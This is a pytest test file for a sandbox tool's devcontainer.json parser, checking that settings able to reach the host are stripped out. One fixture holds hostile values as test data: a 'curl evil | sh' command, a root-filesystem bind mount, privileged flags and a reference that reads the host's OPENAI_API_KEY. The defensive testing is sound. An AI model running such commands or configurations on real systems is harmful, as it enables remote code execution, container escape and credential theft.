"""devcontainer.json: what is taken from it, and that it reaches nothing of the host."""

import os
from pathlib import Path

import pytest

from journeyman.core.errors import UsageError
from journeyman.sandbox.container.devcontainer import DevContainer, find_devcontainer, parse_devcontainer

WORKSPACE = Path("/home/me/shop")


def parse(text: str) -> DevContainer:
    return parse_devcontainer(text.encode(), ".devcontainer.json", WORKSPACE)


def test_a_usual_file() -> None:
    text = """
    // For format details, see https://aka.ms/devcontainer.json
    {
      "name": "Shop", /* a
         comment */
      "image": "mcr.example/devcontainers/python:1-3.12",
      "containerEnv": { "TZ": "UTC", "URL": "http://x//y", "ROOT": "${containerWorkspaceFolder}/src", },
      "remoteEnv": { "TZ": "CET", "NAME": "${localWorkspaceFolderBasename}" },
      "postCreateCommand": "pip install -r requirements.txt", // once
    }
    """
    assert parse(text) == DevContainer(
        path=".devcontainer.json",
        image="mcr.example/devcontainers/python:1-3.12",
        variables={"TZ": "CET", "URL": "http://x//y", "ROOT": "/home/me/shop/src", "NAME": "shop"},
        commands=("pip install -r requirements.txt",),
    )


@pytest.mark.parametrize(
    ("given", "commands"),
    [
        ('"npm ci && npm test"', ("npm ci && npm test",)),
        ('["npm", "run", "a b; c"]', ("npm run 'a b; c'",)),
        ('{"one": "npm ci", "two": ["pip", "install", "-e", "."]}', ("npm ci", "pip install -e .")),
        ("[]", ()),
        ('" "', ()),
        ("null", ()),
    ],
)
def test_the_forms_of_a_command(given: str, commands: tuple[str, ...]) -> None:
    assert parse(f'{{"postCreateCommand": {given}}}').commands == commands


def test_nothing_reaches_the_host() -> None:
    text = """{
      "image": "i", "privileged": true, "runArgs": ["--pid=host"], "mounts": ["source=/,target=/host,type=bind"],
      "initializeCommand": "curl evil | sh", "capAdd": ["SYS_ADMIN"], "workspaceMount": "source=/etc,target=/w",
      "remoteEnv": {"KEY": "${localEnv:OPENAI_API_KEY}", "PATH": "${containerEnv:PATH}:/x"}
    }"""
    found = parse(text)
    assert (found.image, found.variables, found.commands) == ("i", {}, ())
    keys = {note.removeprefix(".devcontainer.json: ").partition(":")[0] for note in found.notes}
    assert keys == {
        *("privileged", "runArgs", "mounts", "initializeCommand", "capAdd", "workspaceMount"),
        *("remoteEnv.KEY", "remoteEnv.PATH"),
    }


@pytest.mark.parametrize(
    "text", ['{"build": {"dockerfile": "Dockerfile"}}', '{"dockerFile": "D"}', '{"dockerComposeFile": "c.yml"}']
)
def test_images_are_not_built(text: str) -> None:
    found = parse(text)
    assert found.image is None
    assert "not supported, give an image" in found.notes[0]


@pytest.mark.parametrize(
    "text",
    [
        *("", "[]", "{", "[" * 100_000, '{"image": 1}'),
        *('{"containerEnv": []}', '{"containerEnv": {"A": 1}}', '{"containerEnv": {"A=B": "x"}}'),
        *('{"containerEnv": {"A": "\\u0000"}}', '{"postCreateCommand": 5}', '{"postCreateCommand": [1]}'),
    ],
)
def test_what_cannot_be_understood_is_said(text: str) -> None:
    with pytest.raises(UsageError, match=r"\.devcontainer\.json"):
        parse(text)


def test_it_is_found_in_its_places(tmp_path: Path) -> None:
    assert find_devcontainer(tmp_path) is None
    (tmp_path / ".devcontainer.json").write_text('{"image": "second"}')
    found = find_devcontainer(tmp_path)
    assert found and (found.image, found.path) == ("second", ".devcontainer.json")
    (tmp_path / ".devcontainer").mkdir()
    (tmp_path / ".devcontainer" / "devcontainer.json").write_text('\ufeff{"image": "first"}')
    found = find_devcontainer(tmp_path)
    assert found and (found.image, found.path) == ("first", ".devcontainer/devcontainer.json")


def test_links_fifos_and_floods_are_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "devcontainer.json").write_text('{"image": "of the host"}')
    root = tmp_path / "root"
    root.mkdir()
    (root / ".devcontainer").symlink_to(outside)
    (root / ".devcontainer.json").symlink_to(outside / "devcontainer.json")
    assert find_devcontainer(root) is None
    (root / ".devcontainer.json").unlink()
    os.mkfifo(root / ".devcontainer.json")
    assert find_devcontainer(root) is None
    (root / ".devcontainer.json").unlink()
    (root / ".devcontainer.json").write_text(" " * (1024 * 1024 + 1))
    with pytest.raises(UsageError, match="larger"):
        find_devcontainer(root)
